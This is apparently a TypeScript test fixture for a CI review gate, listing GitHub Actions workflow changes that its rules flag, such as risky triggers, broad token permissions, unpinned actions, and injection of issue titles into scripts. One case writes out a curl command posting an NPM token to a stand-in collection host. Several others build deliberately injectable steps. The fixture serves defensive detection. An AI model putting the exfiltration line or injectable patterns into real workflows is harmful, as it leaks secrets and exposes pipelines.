import { added, changed } from '../../gate-input.ts'
import type { RuleCase } from '../rule-case.ts'

const path = '.github/workflows/ci.yml'
const sha = 'f'.repeat(40)
const expression = (inner: string) => `\${{ ${inner} }}`

interface Parts {
  readonly on?: string
  readonly permissions?: string
  readonly job?: string
  readonly step?: string
}

const workflow = ({ on = 'push', permissions = '{}', job = 'runs-on: ubuntu-latest', step = 'run: npm test' }: Parts) =>
  `on: ${on}\npermissions: ${permissions}\njobs:\n  a:\n    ${job}\n    steps:\n      - ${step}\n`

/** The same before and after: only a comment is new. */
const asBefore = (parts: Parts) => changed(path, workflow(parts), `# why\n${workflow(parts)}`)
const given = (before: Parts, after: Parts) => changed(path, workflow(before), workflow(after))

function caseOf(rule: string, what: string, after: Parts, before: Parts = {}): RuleCase {
  return { rule, severity: 'hold', what, fires: given(before, after), quiet: asBefore(after) }
}

export const workflowCases: readonly RuleCase[] = [
  caseOf('workflow-strangers-trigger', 'a trigger that strangers cause', { on: 'pull_request_target' }),
  caseOf('workflow-trigger', 'a new schedule', { on: '{ push: , schedule: [{ cron: "1 2 * * *" }] }' }),
  caseOf(
    'workflow-trigger',
    'a wider filter beside a token that writes',
    { on: '{ push: }', permissions: 'write-all' },
    { on: '{ push: { branches: [main] } }', permissions: 'write-all' },
  ),
  caseOf('workflow-permissions', 'a token that writes', { permissions: '{ contents: write }' }),
  caseOf('workflow-permissions', 'a token that may do everything', { permissions: 'write-all' }),
  caseOf('workflow-permissions', 'a job that grants itself more', { job: 'permissions: { id-token: write }' }),
  {
    rule: 'workflow-permissions',
    severity: 'hold',
    what: 'permissions that are no longer stated',
    fires: changed(path, workflow({}), workflow({}).replace('permissions: {}\n', '')),
    quiet: asBefore({}),
  },
  caseOf('workflow-secret', 'a secret in a step', { step: `run: x --key ${expression('secrets.DEPLOY_KEY')}` }),
  caseOf('workflow-secret', 'a secret in quotes', { step: `run: x --key ${expression("secrets['DEPLOY_KEY']")}` }),
  caseOf('workflow-secret', 'all secrets for another workflow', {
    job: 'secrets: inherit\n    uses: acme/ci/.github/workflows/x.yml@v1',
  }),
  caseOf(
    'workflow-unpinned-action',
    'a tag in place of a SHA',
    { step: 'uses: acme/x@v2' },
    { step: `uses: acme/x@${sha}` },
  ),
  caseOf('workflow-unpinned-action', 'an image without a digest', { job: 'container: { image: "node:24" }' }),
  caseOf('workflow-own-runner', 'a machine of the organisation', { job: 'runs-on: [self-hosted, linux]' }),
  caseOf('workflow-weak-condition', 'a name that anybody can act behind', {
    step: "if: github.actor == 'dependabot[bot]'\n        run: x",
  }),
  caseOf('workflow-weak-condition', 'a text that holds another', {
    step: "if: contains('refs/heads/main refs/heads/next', github.ref)\n        run: x",
  }),
  caseOf('workflow-unsecure-commands', 'output that sets variables', {
    step: 'env: { ACTIONS_ALLOW_UNSECURE_COMMANDS: "true" }\n        run: x',
  }),
  caseOf('workflow-given-text', 'an input in a script', { step: `run: deploy ${expression('inputs.place')}` }),
  caseOf('workflow-given-text', 'a branch in a script, by way of a matrix', {
    job: `strategy: { matrix: { of: ["${expression('github.ref_name')}"] } }`,
    step: `run: deploy ${expression('matrix.of')}`,
  }),
  caseOf('workflow-idle-condition', 'text around a condition', {
    step: `if: ${expression('false')} && ${expression('false')}\n        run: x`,
  }),
  caseOf('workflow-idle-condition', 'a line end behind a condition', {
    step: `if: |\n          ${expression('false')}\n        run: x`,
  }),
  caseOf(
    'workflow-unknown-environment',
    'what only the run knows, for all later steps',
    { on: 'workflow_run', step: 'run: cat pr.txt >> "$GITHUB_ENV"' },
    { on: 'workflow_run' },
  ),
  caseOf('workflow-unpinned-action', 'an image that a matrix names', {
    job: `strategy: { matrix: { include: [{ of: "node:24" }] } }\n    container: ${expression('matrix.of')}`,
  }),
  ...(
    [
      ['within a call whose pattern has braces', "format('{0}', github.event.issue.title)"],
      ['as one of two', "github.actor == 'a' && 'b' || github.event.issue.title"],
      ['under a name that is computed', "github.event[format('{0}', 'issue')].title"],
      ['of whatever the event is', 'github.event.*.title'],
      ['behind more than anybody writes', `'${'x'.repeat(2100)}' && github.event.issue.title`],
    ] as const
  ).map(([what, inner]): RuleCase => {
    const step = `run: echo "${expression(inner)}"`
    return {
      ...{ rule: 'workflow-untrusted-text', severity: 'block', what: `a stranger’s text ${what}` },
      ...{ fires: added(path, workflow({ step })), quiet: asBefore({ step }) },
    }
  }),
  {
    rule: 'workflow-untrusted-text',
    severity: 'block',
    what: 'a title pasted by way of a job’s output',
    fires: added(
      path,
      workflow({
        job: `outputs: { t: "${expression('github.event.issue.title')}" }`,
        step: `run: echo ${expression('needs.a.outputs.t')}`,
      }),
    ),
    quiet: asBefore({ job: `outputs: { t: "${expression('github.event.issue.title')}" }` }),
  },
  {
    rule: 'workflow-secret-sent',
    severity: 'block',
    what: 'a secret in the body of a request',
    fires: added(
      path,
      workflow({ step: `run: curl -s -X POST -d 'k=${expression('secrets.NPM_TOKEN')}' https://collect.example/x` }),
    ),
    quiet: asBefore({ step: `run: curl -d 'k=${expression('secrets.NPM_TOKEN')}' https://collect.example/x` }),
  },
  {
    rule: 'workflow-secrets-dump',
    severity: 'block',
    what: 'a secret whose name only the run knows',
    fires: added(path, workflow({ step: `run: echo ${expression('secrets[github.event.inputs.name]')}` })),
    quiet: asBefore({ step: `run: echo ${expression('secrets[github.event.inputs.name]')}` }),
  },
  {
    rule: 'workflow-untrusted-text',
    severity: 'block',
    what: 'a title written in brackets',
    fires: added(path, workflow({ step: `run: echo "${expression("github['event']['issue']['title']")}"` })),
    quiet: asBefore({ step: `run: echo "${expression("github['event']['issue']['title']")}"` }),
  },
  {
    rule: 'workflow-untrusted-text',
    severity: 'block',
    what: 'a title pasted by way of a variable',
    fires: added(
      path,
      workflow({
        step: `env: { TITLE: "${expression('github.event.issue.title')}" }\n        run: echo "${expression('env.TITLE')}"`,
      }),
    ),
    quiet: asBefore({
      step: `env: { TITLE: "${expression('github.event.issue.title')}" }\n        run: echo "${expression('env.TITLE')}"`,
    }),
  },
  {
    rule: 'dependabot-execution',
    severity: 'hold',
    what: 'code that Dependabot may run',
    fires: changed(
      '.github/dependabot.yml',
      'updates:\n  - package-ecosystem: bundler\n',
      'updates:\n  - package-ecosystem: bundler\n    insecure-external-code-execution: allow\n',
    ),
    quiet: added('docs/dependabot.md', 'insecure-external-code-execution: allow\n'),
  },
]
